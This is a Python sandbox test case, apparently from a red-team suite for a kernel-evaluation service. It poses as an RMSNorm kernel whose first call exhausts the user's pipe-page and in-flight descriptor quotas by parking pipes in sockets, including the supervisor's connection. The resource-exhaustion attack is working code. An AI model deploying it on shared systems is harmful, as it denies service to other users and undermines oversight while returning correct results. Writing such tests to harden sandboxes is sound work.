"""Class: cross-talk (per-user kernel counts through ordinary pipes and descriptors in flight, held while its runner is parked).

Tries: F_SETPIPE_SZ is refused now (`user_quota_parked`), but a default pipe still takes 16 pages
(64 KiB) of the user's `pipe_bufs` count, and past `fs.pipe-user-pages-soft` (16384 pages) every
new pipe of a process of that user without CAP_SYS_RESOURCE/CAP_SYS_ADMIN gets 2 slots (8 KiB):
other runners (the reference runner among them), builds (their compilers' pipes) and, where the
worker and the pipeline run as an ordinary user, those too. The runner's 1024-descriptor limit
was meant to keep one runner under that (~1020 pipes, 16320 pages), but descriptors *in flight*
(sent with SCM_RIGHTS into a socketpair of its own and never received) count against no
process's table: only the user's `unix_inflight`, which a sender may raise up to its own
RLIMIT_NOFILE (1024). So its first call makes pipes (the write ends closed, each read end keeps
its pipe and its 16 pages), parks as many as the kernel lets it in flight in a socketpair, then
fills its own table. That holds ~2000 pipes (~32000 pages, twice the soft limit) and the user's
whole in-flight allowance: while it is parked, a process of that user with the usual 1024
descriptors cannot pass a descriptor (ETOOMANYREFS; the worker hands each evaluation its log that
way) and new unprivileged pipes get 8 KiB. It prints what it holds and what a fresh pipe of its
own gets. Correct outputs.
Expect (the defence should make it so): a runner holds at most its descriptor limit's worth of
pipes and no descriptor in flight after its evaluation, and a process of the user outside the
sandbox still gets 64 KiB pipes and may pass descriptors while it is parked.
"""
import fcntl
import os
import socket

import torch

F_GETPIPE_SZ = 1032
_held = []
_started = []


def _carrier():
    """A socket to park descriptors in: a socketpair of its own (refused since session 24), else
    one it inherited (its runner's connection to the supervisor, whose next read would see them)."""
    try:
        a, b = socket.socketpair()
        _held.extend((a, b))
        return a, "socketpair"
    except OSError as e:
        refused = e.strerror
    import stat

    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return socket.socket(fileno=os.dup(int(name))), f"inherited fd {name} (socketpair: {refused})"
        except OSError:
            continue
    return None, f"no socket (socketpair: {refused})"


def _take():
    a, via = _carrier()
    inflight, why = 0, ""
    if a is None:
        why = via
    while a is not None:
        batch = []
        try:
            for _ in range(200):  # SCM_MAX_FD is 253 a message
                r, w = os.pipe()
                os.close(w)
                batch.append(r)
        except OSError as e:
            why = f"pipe: {e.strerror}"
        if not batch:
            break
        try:
            socket.send_fds(a, [b"p"], batch)
        except OSError as e:
            why = f"in flight: {e.strerror}"
            _held.extend(batch)  # kept in its table instead
            break
        inflight += len(batch)
        for fd in batch:  # the pipe lives on in the message in flight
            os.close(fd)
        if why:
            break
    in_table = 0
    while True:
        try:
            r, w = os.pipe()
        except OSError as e:
            why2 = e.strerror
            break
        os.close(w)
        _held.append(r)
        in_table += 1
    for _ in range(4):  # room for the probe below
        os.close(_held.pop())
    r, w = os.pipe()
    size = fcntl.fcntl(w, F_GETPIPE_SZ)
    os.close(r)
    os.close(w)
    in_table = sum(1 for fd in _held if isinstance(fd, int))
    pages = 16 * (inflight + in_table)
    print(f"PIPE PAGES REPORT via {via}: pipes in flight {inflight} ({why}); pipes in its table {in_table} "
          f"({why2}); ~{pages} pages held (soft limit 16384); a new pipe of its own: {size} bytes", flush=True)


def run(x, weight, eps):
    if not _started:
        _started.append(True)
        _take()
    return torch.nn.functional.rms_norm(x, (x.shape[-1],), weight, float(eps))
